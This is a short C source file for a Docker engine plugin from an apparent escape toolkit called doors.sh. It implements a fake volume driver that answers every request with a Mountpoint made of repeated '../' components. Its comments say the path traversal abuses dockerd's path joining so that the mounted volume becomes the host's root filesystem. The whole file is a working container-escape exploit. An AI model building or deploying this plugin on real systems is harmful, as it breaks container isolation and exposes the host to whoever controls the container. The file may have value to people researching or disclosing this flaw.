/*
 * doors-plugin: an engine plugin that asks for no privilege, for doors.sh.
 *
 * A volume driver that gives one answer to every question: that its volume lies at the root of the host. dockerd puts
 * the path behind the plugin's own folder and cleans it (moby volume/drivers/adapter.go), so that enough ".." lead out.
 */
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static const char answer[] =
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n"
        "{\"Implements\":[\"VolumeDriver\"],\"Mountpoint\":\"/../../../../../../../../../../../..\","
        "\"Volume\":{\"Name\":\"door\"},\"Capabilities\":{\"Scope\":\"local\"}}\n";

int main(void) {
        struct sockaddr_un at = { .sun_family = AF_UNIX, .sun_path = "/run/docker/plugins/door.sock" };
        int listening = socket(AF_UNIX, SOCK_STREAM, 0), from;
        char asked[4096];

        signal(SIGTERM, _exit); /* else the first process of a namespace ignores it */
        if (bind(listening, (struct sockaddr *)&at, sizeof(at)) < 0 || listen(listening, 8) < 0)
                return EXIT_FAILURE;
        while ((from = accept(listening, NULL, NULL)) >= 0) {
                /* An answer before the question is none to Go; a close before all was read would cut it off. */
                if (read(from, asked, sizeof(asked)) > 0 && write(from, answer, sizeof(answer) - 1) > 0 &&
                    shutdown(from, SHUT_WR) == 0)
                        while (read(from, asked, sizeof(asked)) > 0)
                                ;
                close(from);
        }
        return EXIT_FAILURE;
}
